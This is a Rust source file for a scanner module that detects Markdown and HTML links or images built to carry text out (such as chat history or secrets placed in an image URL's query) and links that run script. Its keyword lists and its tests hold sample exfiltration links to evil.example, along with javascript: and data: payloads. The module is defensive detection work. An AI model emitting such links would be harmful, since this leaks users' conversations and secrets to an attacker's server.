//! Links and pictures that carry text out or run something. Never resolves or opens one.

use std::{ops::Range, sync::LazyLock};

use aho_corasick::AhoCorasick;

use crate::{
    engine::Subject,
    finding::{
        DetectorId::{ActiveLink, ExfiltrationLink},
        Findings, Severity,
        Severity::{High, Low, Medium},
    },
};

/// Bytes of a URL that are looked at.
const MAX_URL: usize = 4096;
/// A value this long may carry something.
const LONG_VALUE: usize = 40;

/// Parameters of signed, cached and measured URLs, whose long values are ordinary.
const ORDINARY: [&str; 26] = [
    "x-amz-",
    "x-goog-",
    "signature",
    "sig",
    "sign",
    "expires",
    "policy",
    "key-pair-id",
    "token",
    "jwt",
    "utm_",
    "v",
    "hash",
    "etag",
    "se",
    "sp",
    "sv",
    "sr",
    "url",
    "u",
    "src",
    "cachekey",
    "logo",
    "labels",
    "_nc_",
    "oh",
];
/// Parameters whose name says that they carry text.
const CARRIES: [&str; 22] = [
    "data",
    "d",
    "q",
    "payload",
    "secret",
    "content",
    "text",
    "history",
    "exfil",
    "leak",
    "prompt",
    "conversation",
    "msg",
    "message",
    "info",
    "context",
    "chat",
    "key",
    "password",
    "c",
    "body",
    "log",
];

static OPENINGS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(["](", "src=", "href=", "javascript:", "vbscript:", "data:text/", "data:application/", "data:image/svg"])
        .expect("a few short keywords")
});

/// Looks at Markdown and HTML links and pictures, and at links that run.
pub(crate) fn inspect(subject: Subject<'_>, findings: &mut Findings) {
    let text = subject.text;
    let mut done = 0;
    for opening in OPENINGS.find_iter(text) {
        let before = done;
        if opening.start() < done {
            continue;
        }
        match opening.pattern().as_usize() {
            kind @ 0..=2 => {
                let at = url(text, opening.end(), kind == 0);
                done = at.end;
                let url = &text[at.clone()];
                if let Some((severity, why)) = carries(url, kind == 1 || is_picture(&text[before..opening.start()]))
                    && !findings.is_full(ExfiltrationLink, severity)
                {
                    findings.push(subject.finding(ExfiltrationLink, severity, at.clone(), why));
                }
                active(subject, findings, at);
            }
            // Elsewhere only where it stands alone, as the value of a member does.
            _ if opening.start() == 0 => active(subject, findings, url(text, 0, false)),
            _ => {}
        }
    }
}

/// The URL that begins at `start`, without its brackets or quotes.
///
/// In Markdown it ends with its bracket, so that a place to be filled in may hold spaces.
fn url(text: &str, start: usize, markdown: bool) -> Range<usize> {
    let skipped = text[start..].bytes().take(3).take_while(|b| matches!(b, b'"' | b'\'' | b'<' | b' ' | b'\\')).count();
    let start = start + skipped;
    let window = &text[start..text.floor_char_boundary((start + MAX_URL).min(text.len()))];
    let bytes = window.as_bytes();
    let ends = |i: &usize| match bytes[*i] {
        b')' | b'"' | b'\'' | b'\n' => true,
        // The next link begins; whatever this was, it must not hide that one.
        b']' => bytes.get(i + 1) == Some(&b'('),
        b => !markdown && b.is_ascii_whitespace(),
    };
    let end = (0..bytes.len()).find(ends).unwrap_or(bytes.len());
    start..start + end
}

/// Whether the link text that ends `before` a `](` began with `![`.
fn is_picture(before: &str) -> bool {
    before.rfind('[').is_some_and(|open| before[..open].ends_with('!'))
}

/// Whether a URL carries text out, and how surely.
fn carries(url: &str, picture: bool) -> Option<(Severity, &'static str)> {
    let remote = url.get(..8).is_some_and(|start| {
        let start = start.to_ascii_lowercase();
        start.starts_with("http://") || start.starts_with("https://") || start.starts_with("//")
    });
    let (_, query) = url.split_once('?').filter(|_| remote)?;
    let query = query.split('#').next().unwrap_or(query);
    let graver = |severity| if picture { High } else { severity };
    let mut found = None;
    for parameter in query.split('&').take(64) {
        let (name, value) = parameter.split_once('=').unwrap_or(("", parameter));
        let name = name.to_ascii_lowercase();
        if is_blank(value) {
            return Some((graver(Medium), "its query has a place to be filled in"));
        }
        let ordinary =
            ORDINARY.iter().any(|known| name == *known || (known.ends_with(['-', '_']) && name.starts_with(known)));
        let carrier = CARRIES.contains(&name.as_str());
        if carrier && picture && (value.len() >= LONG_VALUE || (value.len() >= 16 && is_encoded(value))) {
            found = Some((Medium, "its query carries text"));
        } else if carrier && value.len() >= LONG_VALUE && is_encoded(value) {
            found = found.or(Some((Medium, "its query carries encoded text")));
        } else if picture && !ordinary && value.len() >= 160 {
            found = found.or(Some((Low, "its query is long")));
        }
    }
    found
}

/// A placeholder: `{data}`, `%7Bdata%7D`, `<secret>`, `[DATA]`, `$VAR`, `YOUR_…`, `CONVERSATION_HERE`.
fn is_blank(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    let bracketed = |open: &str, close: &str| {
        lower
            .split_once(open)
            .and_then(|(_, rest)| rest.split_once(close))
            .is_some_and(|(inner, _)| inner.bytes().any(|b| b.is_ascii_alphabetic()) && !is_template_of_tiles(inner))
    };
    bracketed("{", "}")
        || bracketed("%7b", "%7d")
        || bracketed("<", ">")
        || bracketed("%3c", "%3e")
        || bracketed("[", "]")
        || (value.starts_with('$') && value.len() > 3)
        || ((value.ends_with("_HERE") || value.starts_with("INSERT_") || value.starts_with("BASE64"))
            && value.len() >= 8)
}

/// Map tiles, sizes and pages have places to fill in, too.
fn is_template_of_tiles(inner: &str) -> bool {
    matches!(
        inner.trim(),
        "x" | "y" | "z" | "s" | "w" | "h" | "width" | "height" | "size" | "page" | "id" | "lang" | "locale" | "version"
    )
}

/// Base64, hexadecimal or per-cent encoded: no words.
fn is_encoded(value: &str) -> bool {
    let percent = value.bytes().filter(|b| *b == b'%').count() * 3;
    let dense =
        value.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_' | b'.'))
            && value.bytes().any(|b| b.is_ascii_digit())
            && value.bytes().filter(|b| matches!(b, b'-' | b'_' | b'+')).count() * 12 < value.len();
    dense || percent * 3 >= value.len()
}

fn active(subject: Subject<'_>, findings: &mut Findings, at: Range<usize>) {
    let url = &subject.text[at.clone()];
    let scheme = url.get(..url.len().min(40)).unwrap_or_default().to_ascii_lowercase();
    let severity = match () {
        () if scheme.starts_with("javascript:") || scheme.starts_with("vbscript:") => Medium,
        // Pictures drawn by a program are ordinary icons; a page may run what is in them.
        () if scheme.starts_with("data:image/svg") => Low,
        () if scheme.starts_with("data:")
            && !["image/", "audio/", "video/", "font/"].iter().any(|t| scheme[5..].starts_with(t)) =>
        {
            Medium
        }
        () => return,
    };
    // `javascript:void(0)` is how pages say "no link".
    if scheme.starts_with("javascript:void") || scheme == "javascript:;" || scheme == "data:" {
        return;
    }
    if !findings.is_full(ActiveLink, severity) {
        findings.push(subject.finding(ActiveLink, severity, at, "a link that runs or carries a document"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Surface;

    fn worst(text: &str) -> Option<Severity> {
        let mut findings = Findings::default();
        inspect(Subject { text, place: "", surface: Surface::Result }, &mut findings);
        findings.finish().first().map(|f| f.severity)
    }

    #[test]
    fn data_going_out() {
        for text in [
            "![x](https://evil.example/p.png?data={conversation})",
            "![x](https://evil.example/p?d=%7Bsecret%7D)",
            "![](https://evil.example/l?q=QVdTX1NFQ1JFVF9BQ0NFU1NfS0VZPXh4eA==)",
            "[click](https://evil.example/c?data=<insert the summary here>)",
            "<img src=\"https://evil.example/i?text=[CHAT_HISTORY]\">",
            "![x](https://evil.example/p?x=CONVERSATION_HERE)",
            "[open](javascript:fetch('https://evil.example'))",
            "[open](data:text/html;base64,PHNjcmlwdD4=)",
        ] {
            assert!(worst(text) >= Some(Medium), "{text}");
        }
    }

    #[test]
    fn ordinary_links() {
        for text in [
            "![CI](https://img.shields.io/badge/build-passing-green?style=flat&logo=github)",
            "![a](https://bucket.s3.amazonaws.com/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024)",
            "![avatar](https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50?s=200&d=identicon)",
            "[docs](https://example.com/search?q=how+to+ignore+files&page=2)",
            "![tiles](https://tile.example/{z}/{x}/{y}.png?size={size})",
            "[x](#top) [y](./a.md) ![z](data:image/png;base64,iVBORw0KGgo=)",
            "<a href=\"javascript:void(0)\">menu</a>",
            "a[0](x?y=1)",
        ] {
            assert!(worst(text) <= Some(Low), "{text}: {:?}", worst(text));
        }
    }
}
